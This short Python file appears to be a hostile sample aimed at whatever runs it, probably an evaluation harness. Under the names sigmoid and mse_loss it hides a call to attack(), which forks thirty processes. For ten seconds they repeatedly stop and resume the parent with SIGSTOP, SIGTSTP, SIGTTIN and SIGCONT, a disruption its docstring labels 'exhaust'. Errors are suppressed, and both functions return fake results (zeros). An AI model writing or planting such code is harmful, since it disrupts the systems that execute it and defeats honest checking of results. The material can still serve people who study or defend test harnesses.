"""Stops and continues its own group in quick turns from thirty processes, while it is asked, answers and is watched.

aims: exhaust
"""

import contextlib
import os
import signal
import time

import numpy as np


def attack():
    end = time.monotonic() + 10
    me = os.getpid()
    for number in range(30):
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                try:
                    # one wakes all again whatever the others do
                    if number == 0:
                        os.setsid()
                    while time.monotonic() < end:
                        for one in (signal.SIGTSTP, signal.SIGSTOP, signal.SIGTTIN)[: 0 if number < 3 else 3]:
                            os.kill(me, one)
                        os.kill(me, signal.SIGCONT)
                        time.sleep(0.001 * (number % 5))
                    os.kill(me, signal.SIGCONT)
                finally:
                    os._exit(0)
    while time.monotonic() < end:
        time.sleep(0.01)


def sigmoid(Z):
    with contextlib.suppress(Exception):
        attack()
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    with contextlib.suppress(Exception):
        attack()
    return 0.0
